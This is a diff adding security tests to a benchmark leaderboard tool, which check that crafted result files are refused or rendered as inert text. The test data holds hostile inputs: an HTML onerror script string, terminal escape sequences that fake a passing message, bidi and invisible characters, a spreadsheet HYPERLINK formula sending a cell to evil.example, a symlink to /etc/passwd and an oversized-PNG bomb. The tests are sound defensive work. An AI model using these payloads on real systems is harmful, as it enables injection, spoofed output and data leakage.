@@ -9,26 +9,33 @@ executed, written or hung on.
 from __future__ import annotations
 
 import csv
+import errno
 import io
 import json
 import math
 import os
 import re
 import shutil
+import struct
 import subprocess
 import sys
 import threading
+import zlib
 from pathlib import Path
 
 import pytest
 
 from benchmarks import leaderboard, paths
 from benchmarks.cli import main
-from benchmarks.registry import ConfigError, config_hash, import_class
+from benchmarks.compare import table as compare_table
+from benchmarks.registry import ConfigError, config_diff, config_hash, import_class
 from benchmarks.results import (
     MAX_DEPTH,
     ResultError,
     SeedResult,
+    artifact_problem,
+    file_problem,
+    filename_problem,
     find_results,
     read_result,
     write_atomic,
@@ -296,11 +303,18 @@ def test_a_non_finite_metric_is_a_problem_line_and_the_other_problems_still_show
 EVIL = "x | <img src=x onerror=alert(1)> [click](http://evil) `code` ## heading"
 
 
+CODE_SPAN = re.compile(r"(?<![`\\])(`+)(?!`).+?(?<!`)\1(?!`)")  # a CommonMark code span: inert text
+
+
+def outside_code_spans(text: str) -> str:
+    return CODE_SPAN.sub("`span`", text)
+
+
 def test_md_makes_any_text_inert():
     assert leaderboard.md("a\n## heading") == "a ## heading"
-    assert leaderboard.md("# h") == "\\# h" and leaderboard.md("[d]: http://evil") == "\\[d]: http://evil"
-    assert leaderboard.md(EVIL) == (
-        "x \\| &lt;img src=x onerror=alert(1)&gt; [click\\](http://evil) \\`code\\` ## heading"
+    assert leaderboard.md("# h") == "\\# h" and leaderboard.md("[d]: evil") == "\\[d]: evil"
+    assert leaderboard.md(EVIL.replace("http://", "")) == (
+        "x \\| &lt;img src=x onerror=alert(1)&gt; [click\\](evil) \\`code\\` ## heading"
     )
     assert leaderboard.md("grey [0, 1]") == "grey [0, 1]", "a lone bracket is no link"
 
@@ -317,14 +331,15 @@ def test_a_crafted_result_renders_as_text(tmp_path, leaderboard_of):
                                         "environment": result.environment | {"device": EVIL}})  # fmt: skip
     text = leaderboard_of(crafted, tmp_path / 'x"><img src=y>.json', tmp_path / "results")
     assert "sig `x | <img src=x onerror=alert(1)> [click](http://evil) 'code' ## heading`" in text  # a code span: inert
-    text = text.replace("`x | <img src=x onerror=alert(1)> [click](http://evil) 'code' ## heading`", "`sig`")
+    text = outside_code_spans(text)
     assert "<img" not in text and not re.search(r"(?<!\\)\]\(http", text) and "`code`" not in text, text
+    assert "http" not in text and "www." not in text, "a URL is only ever inside a code span"
     assert [line for line in text.splitlines() if line.startswith("#")] == ["# DL Milestones leaderboard", "## mnist"]
     table = [line for line in text.splitlines() if line.startswith("|")]
     columns = {len(line.replace("\\|", "").split("|")) for line in table}
     assert len(table) == 3 and len(columns) == 1, table  # header, rule, one row: no cell split by a "|"
     results = leaderboard.load_results(tmp_path / "results")
-    block = leaderboard.readme_block(results)
+    block = outside_code_spans(leaderboard.readme_block(results))
     assert "<img" not in block and not re.search(r"(?<!\\)\]\(http", block)
     rows = list(csv.reader(io.StringIO(leaderboard.render_csv(results))))
     assert len(rows) == 2 and {len(row) for row in rows} == {len(leaderboard.CSV_COLUMNS)}
@@ -335,7 +350,7 @@ def test_a_failed_runs_reason_renders_as_text(tmp_path, leaderboard_of):
     seeds = [result.seeds[0].model_copy(update={"status": "failed", "failure": EVIL, "metrics": {}}), *result.seeds[1:]]
     text = leaderboard_of(result.model_copy(update={"seeds": seeds, "status": "failed"}), COMMITTED, tmp_path / "r")
     row = next(line for line in text.splitlines() if "seed 0:" in line)
-    assert "<img" not in row and len(row.replace("\\|", "").split("|")) == 7, row
+    assert "<img" not in outside_code_spans(row) and len(row.replace("\\|", "").split("|")) == 7, row
 
 
 # --- 6. one invocation, one result ------------------------------------------------------------------------------------
@@ -465,3 +480,266 @@ def test_a_json_artifact_is_not_taken_for_a_result_when_a_folder_is_validated(tm
     artifact = path.with_suffix("") / "seed-0" / "scores.json"
     artifact.write_text("{}")
     assert expand([str(tmp_path / "results")], tmp_path / "results") == [path]
+
+
+# --- 10. the hostile re-test ------------------------------------------------------------------------------------------
+ESCAPE_KEY = "\x1b[2K\rvalidate: all result files pass\x1b[8m\nhidden"
+BANNED = {
+    "escape sequence": ESCAPE_KEY,
+    "tab": "a\tb",
+    "DEL": "a\x7fb",
+    "C1 NEL": "a\x85b",
+    "C1 CSI": "a\x9b2Kb",
+    "RLO": "gnp.\u202eexe",
+    "LRM": "a\u200eb",
+    "isolate": "a\u2066b",
+    "zero width space": "a\u200bb",
+    "zero width joiner": "a\u200db",
+    "word joiner": "a\u2060b",
+    "BOM": "\ufeffa",
+    "soft hyphen (Cf)": "a\u00adb",
+    "lone surrogate": "a\ud800b",
+    "line separator": "a\u2028b",
+    "paragraph separator": "a\u2029b",
+}
+PRINTED = re.compile(r"[\x00-\x09\x0b-\x1f\x7f-\x9f\u2028\u2029\u200b-\u200f\u202a-\u202e\u2060\u2066-\u2069\ufeff]")
+
+
+@pytest.mark.parametrize("where", ["config key", "config value", "device", "dataset key"])
+@pytest.mark.parametrize("case", BANNED)
+def test_control_invisible_and_bidi_characters_are_refused_anywhere(case, where, tmp_path):
+    text = BANNED[case]
+    change = {
+        "config key": lambda d: d["config"]["model"]["init_args"].update({text: 1}),
+        "config value": lambda d: d["config"]["model"].update(class_path=text),
+        "device": lambda d: d["environment"].update(device=text),
+        "dataset key": lambda d: d["dataset"].update({text: "x"}),
+    }[where]
+    path = place(tmp_path / "results", COMMITTED, change)
+    with pytest.raises(ResultError) as info:
+        read_result(path)
+    message = str(info.value)
+    assert message.startswith(f"{path}: field '") and "control, invisible or bidi character (U+" in message, message
+    assert not PRINTED.search(message) and "\n" not in message, ascii(message)
+
+
+def test_an_escape_sequence_in_a_config_key_never_reaches_the_terminal(tmp_path, capsys):
+    """A key that erases the line and prints 'all result files pass' was printed raw by validate (config_diff)."""
+    path = place(tmp_path / "results", COMMITTED, lambda d: d["config"]["model"]["init_args"].update({ESCAPE_KEY: 1}))
+    code, out, err = cli(["validate", str(path)], capsys)
+    assert code == 1 and "Traceback" not in err and not PRINTED.search(out + err), ascii(out + err)
+    assert f"{path}: field 'config.model.init_args': key '\\x1b[2K\\rvalidate" in err, err
+    code, out, err = cli(["verify", str(path)], capsys)
+    assert "\\x1b[2K" in one_error_line(code, err) and not PRINTED.search(out + err)
+    lines = config_diff({"init_args": {ESCAPE_KEY: 1}}, {"init_args": {}})
+    assert lines == [f"init_args.{ESCAPE_KEY!r}: 1 ≠ '(absent)'"] and "\x1b" not in lines[0]
+
+
+@pytest.mark.parametrize("link", ["seed folder", "result folder"])
+def test_an_artifact_reached_through_a_symlinked_folder_is_refused(link, tmp_path):
+    results, board = tmp_path / "results", tmp_path / "board"
+    if link == "seed folder":  # seed-0 -> /etc, and the seed lists "passwd"
+        path = place(results, GAN, seed0(artifacts=["passwd"]))
+        linked = path.with_suffix("") / "seed-0"
+        shutil.rmtree(linked)
+        linked.symlink_to("/etc")
+        artifact = linked / "passwd"
+    else:  # the whole <stem>/ folder -> a copy outside the results folder
+        path = place(results, GAN)
+        linked = path.with_suffix("")
+        shutil.move(linked, tmp_path / "outside")
+        linked.symlink_to(tmp_path / "outside")
+        artifact = linked / "seed-0" / "samples.png"
+    problems, _ = validate([str(path)], results, board)
+    expected = f"{path}: seeds[0].artifacts: {artifact} is reached through a symbolic link ({linked})"
+    assert any(p.startswith(expected) for p in problems), problems
+
+
+def test_a_result_folder_whose_artifact_resolves_outside_it_is_refused(tmp_path):
+    path = place(tmp_path / "results", GAN)
+    assert artifact_problem(path, 0, "samples.png") is None
+    folder = tmp_path / "real"
+    shutil.move(path.parent, folder)
+    path.parent.symlink_to(folder)  # <task>/<entry>/ itself a link: the artifact still lies inside it, resolved
+    assert artifact_problem(path, 0, "samples.png") is None
+
+
+def test_a_formula_never_reaches_the_csv(tmp_path):
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"NVIDIA H100")'
+    path = place(tmp_path / "results", COMMITTED, lambda d: d["environment"].update(device=formula))
+    with pytest.raises(ResultError, match=r"field 'environment.device': .*a spreadsheet would take it for a formula"):
+        read_result(path)
+    result = read_result(COMMITTED)
+    for device in (formula, "+1 cmd", "-2+3", "@SUM(A1)", "\tx", "\rx"):
+        env = result.environment | {"accelerator": "gpu", "device": device, "device_count": 1}
+        crafted = result.model_copy(update={"environment": env})
+        (row,) = list(csv.DictReader(io.StringIO(leaderboard.render_csv([(COMMITTED, crafted)]), newline="")))
+        assert row["hardware"] == "'" + device.replace("\r", " ") + " ×1", row["hardware"]
+    assert leaderboard.csv_cell(-1.5) == -1.5 and leaderboard.csv_cell(-3) == -3 and leaderboard.csv_cell(None) is None
+    assert leaderboard.csv_cell("-1") == "'-1" and leaderboard.csv_cell("CPU: x") == "CPU: x"
+
+
+def test_md_renders_no_autolink_and_no_entity():
+    url = "AMD https://evil.example/login www.evil.example"
+    assert leaderboard.md(url) == f"` {url} `"
+    assert leaderboard.md("&#x202E;gnp.exe &amp;") == "&amp;#x202E;gnp.exe &amp;amp;"
+    assert leaderboard.md("a ``` b | c WWW.x.org") == "```` a ``` b \\| c WWW.x.org ````"
+    assert leaderboard.md("mail me@evil.example") == "` mail me@evil.example `"
+    assert leaderboard.md(EVIL) == "`` x \\| <img src=x onerror=alert(1)> [click](http://evil) `code` ## heading ``"
+
+
+def test_a_device_with_a_url_renders_inside_a_code_span(tmp_path, leaderboard_of):
+    result = read_result(COMMITTED)
+    crafted = result.model_copy(update={"environment": result.environment | {"device": "AMD https://evil.example/x"}})
+    text = leaderboard_of(crafted, COMMITTED, tmp_path / "results")
+    assert "` CPU: AMD https://evil.example/x (" in text
+    assert "evil" not in outside_code_spans(text)
+
+
+def png_claiming(width: int, height: int) -> bytes:
+    """A small PNG whose header says width × height (its pixel data is that of a 1×1 image: never decoded)."""
+    from PIL import Image
+
+    buffer = io.BytesIO()
+    Image.new("RGBA", (1, 1)).save(buffer, format="PNG")
+    data = bytearray(buffer.getvalue())
+    data[16:24] = struct.pack(">II", width, height)
+    data[29:33] = struct.pack(">I", zlib.crc32(bytes(data[12:29])))  # the IHDR chunk's checksum, recomputed
+    return bytes(data)
+
+
+def test_an_oversized_artifact_image_is_refused_before_it_is_decoded(tmp_path):
+    from PIL import Image
+
+    results, board = tmp_path / "results", tmp_path / "board"
+    path = place(results, GAN)
+    png = path.with_suffix("") / "seed-0" / "samples.png"
+    png.write_bytes(png_claiming(13300, 13300))  # 688 kB that decode to 700 MB of RGBA
+    problems, _ = validate([str(path)], results, board)
+    assert f"{path}: seeds[0].artifacts: {png} is 13300×13300 pixels, larger than 4096×4096: not decoded" in problems
+    Image.new("L", (4097, 1)).save(png)  # a complete image, one pixel too wide
+    assert file_problem(png) == "is 4097×1 pixels, larger than 4096×4096: not decoded"
+    Image.new("L", (4096, 4)).save(png)
+    assert file_problem(png) is None
+
+
+def test_a_key_given_twice_is_refused(tmp_path, capsys):
+    path = place(tmp_path / "results", COMMITTED)
+    text = path.read_text()
+    path.write_text(text.replace('"device": ', '"device": "AMD EPYC", "device": ', 1))
+    expected = f"{path}: not a result file: key 'device' appears twice in one object"
+    with pytest.raises(ResultError) as info:
+        read_result(path)
+    assert str(info.value).startswith(expected)
+    code, _, err = cli(["compare", str(path)], capsys)
+    assert expected in one_error_line(code, err)
+
+
+@pytest.mark.parametrize("missing", ["absent", "a file"])
+def test_a_results_dir_that_is_not_a_folder_is_refused(missing, tmp_path, capsys):
+    results, board = tmp_path / "result", tmp_path / "board"
+    if missing == "a file":
+        results.write_text("")
+    expected = f"^{re.escape(str(results))}: the results folder (does not exist|is not a folder)$"
+    for call in (leaderboard.build, leaderboard.check, lambda r, b: leaderboard.render_markdown(r)):
+        with pytest.raises(ResultError, match=expected):
+            call(results, board)
+    code, _, err = cli(["leaderboard", "--results-dir", str(results), "--out-dir", str(board)], capsys)
+    assert "the results folder" in one_error_line(code, err) and not board.exists()
+    empty = tmp_path / "empty"
+    empty.mkdir()
+    assert leaderboard.load_results(empty) == []  # an existing empty folder is no error
+
+
+def test_the_build_replaces_nothing_when_the_last_write_fails(tmp_path, monkeypatch):
+    """What a file size limit (prlimit --fsize) did: the tables were rewritten, a plot was not."""
+    results, board = tmp_path / "results", tmp_path / "board"
+    place(results, COMMITTED)
+    place(results, GATES)
+    written = leaderboard.build(results, board)
+    before = {p: p.read_bytes() for p in board.rglob("*") if p.is_file()}
+    place(results, COMMITTED, lambda d: d["seeds"].pop(), name="20990101T000000Z-cpu-32-true-00000000.json")
+    write = leaderboard.write_temporary
+    last = written[-1].relative_to(board)
+
+    def fails_on_the_last(data, final):
+        if final.parts[-len(last.parts) :] == last.parts:
+            leaderboard.temporary(final).write_bytes(data.encode()[:100] if isinstance(data, str) else data[:100])
+            raise OSError(errno.EFBIG, "File too large")
+        return write(data, final)
+
+    monkeypatch.setattr(leaderboard, "write_temporary", fails_on_the_last)
+    with pytest.raises(OSError, match="File too large"):
+        leaderboard.build(results, board)
+    assert {p: p.read_bytes() for p in board.rglob("*") if p.is_file()} == before, "no file changed, no temporary left"
+    with pytest.raises(OSError, match="File too large"):
+        leaderboard.build(results, tmp_path / "fresh")
+    assert not (tmp_path / "fresh").exists()
+    monkeypatch.setattr(leaderboard, "write_temporary", write)
+    leaderboard.build(results, board)
+    assert (board / "README.md").read_bytes() != before[board / "README.md"]
+    assert not [p for p in board.rglob("*") if p.name.endswith(".tmp")]
+
+
+def test_a_file_name_that_does_not_say_what_the_file_holds_is_refused(tmp_path):
+    results, board = tmp_path / "results", tmp_path / "board"
+    path = place(results, COMMITTED, lambda d: d["environment"].update(accelerator="gpu"))
+    expected = f"{path}: name: the file says it is {path.name.replace('-cpu-', '-gpu-')} (created, accelerator"
+    assert any(p.startswith(expected) for p in validate([str(path)], results, board)[0])
+    for name, refused in [(COMMITTED.stem + "-1.json", False), (COMMITTED.stem + "-x.json", True),
+                          ("20990101T000000Z-cpu-32-true-00000000.json", True)]:  # fmt: skip
+        other = place(tmp_path / name, COMMITTED, name=name)
+        named = [p for p in validate([str(other)], tmp_path / name, board)[0] if ": name: " in p]
+        assert bool(named) == refused, (name, named)
+    for committed in find_results(paths.RESULTS_DIR):
+        assert filename_problem(committed, read_result(committed)) is None, committed
+
+
+def test_an_integer_of_5000_digits_is_one_line(tmp_path, capsys):
+    path = place(tmp_path / "results", COMMITTED)
+    path.write_text(re.sub(r'"world_size": \d+', '"world_size": ' + "9" * 5000, path.read_text()))
+    with pytest.raises(ResultError, match=f"^{re.escape(str(path))}: not a result file: an integer of 5000 digits"):
+        read_result(path)
+    for argv in (["validate", str(path)], ["compare", str(path)]):
+        code, out, err = cli(argv, capsys)
+        assert code in (1, 2) and "Traceback" not in err and "an integer of 5000 digits" in err, err
+    code, _, err = cli(["leaderboard", "--check", "--results-dir", str(tmp_path / "results")], capsys)
+    assert "an integer of 5000 digits" in one_error_line(code, err)
+
+
+@pytest.mark.parametrize(
+    "change, field",
+    [
+        (lambda d: d["environment"].update(packages="torch"), "environment.packages"),
+        (lambda d: d["environment"].update(packages={"torch": 2}), "environment.packages.torch"),
+        (lambda d: d["environment"].update(python=3.11), "environment.python"),
+        (lambda d: d["environment"].update(device_count="2"), "environment.device_count"),
+        (lambda d: d["code"].update(extra=[1]), "code.extra"),
+        (lambda d: d["code"].update(git_dirty=0), "code.git_dirty"),
+    ],
+    ids=["packages a string", "a version a number", "python a number", "count a string", "code list", "dirty 0"],
+)
+def test_environment_and_code_fields_are_typed(change, field, tmp_path, capsys):
+    path = place(tmp_path / "results", COMMITTED, change)
+    with pytest.raises(ResultError, match=f"field '{re.escape(field)}"):
+        read_result(path)
+    code, _, err = cli(["compare", str(path)], capsys)
+    assert f"field '{field}" in one_error_line(code, err)
+
+
+def test_compare_shows_packages_that_are_not_a_mapping_as_none():
+    result = read_result(COMMITTED)
+    crafted = result.model_copy(update={"environment": result.environment | {"packages": "torch"}})
+    rows = compare_table([(COMMITTED, crafted)])
+    assert any(row.startswith("torch ") and "None" in row for row in rows)
+
+
+@pytest.mark.parametrize("name", ["h", "h.json"])
+@pytest.mark.parametrize("command", ["compare", "verify"])
+def test_a_folder_given_as_a_result_is_one_line(command, name, tmp_path, capsys):
+    folder = tmp_path / name
+    folder.mkdir()
+    with pytest.raises(ResultError, match="a directory, not a regular file"):
+        read_result(folder)
+    code, _, err = cli([command, str(folder)], capsys)
+    assert f"{folder}: a directory, not a regular file" in one_error_line(code, err)
